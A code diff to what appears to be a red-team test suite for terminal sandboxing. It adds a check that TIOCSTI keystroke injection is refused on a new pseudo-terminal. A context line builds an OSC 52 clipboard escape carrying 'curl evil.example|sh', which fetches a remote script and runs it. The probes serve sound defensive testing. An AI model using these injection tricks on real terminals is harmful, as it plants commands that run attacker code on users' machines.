@@ -68,6 +68,16 @@ if mode == "sti":
         except OSError as e:
             print("TIOCSTI: %s" % e.strerror)
     print("typed=%d" % n)
+    # The second wall: TIOCSTI refused even on a terminal of its own.
+    try:
+        m, sl = os.openpty()
+        try:
+            fcntl.ioctl(sl, termios.TIOCSTI, b"x")
+            print("own=" + "typed")
+        except OSError as e:
+            print("own=%s" % e.strerror)
+    except OSError as e:
+        print("openpty: %s" % e.strerror)
 elif mode == "paint":
     clip = base64.b64encode(b"curl evil.example" + b"|sh").decode()
     out = ("\033]52;c;" + clip + "\007" + "\033]2;REDTEAM" + "-TITLE\007" +
@@ -289,10 +299,12 @@ def _check_sti(t, screen):
     out = t.sent("mallory")
     n = re.findall(r"typed=(\d+)", out)
     ctty = re.findall(r"ctty=(-?\d+)", out)
-    ok = pending and not typed and ctty[-1:] == ["0"]
+    own = "own=typed" in out
+    ok = pending and not typed and ctty[-1:] == ["0"] and not own
     return ok, "no controlling terminal, no tty open, plan pending" if ok \
-        else "plan %s, typed=%s, ctty=%s" % (plan[0][3] if plan else "?",
-                                             n[-1:], ctty[-1:])
+        else "plan %s, typed=%s, ctty=%s, own pty %s" % (
+            plan[0][3] if plan else "?", n[-1:], ctty[-1:],
+            "typed" if own else "refused")
 
 
 def _check_paint(t, seen):
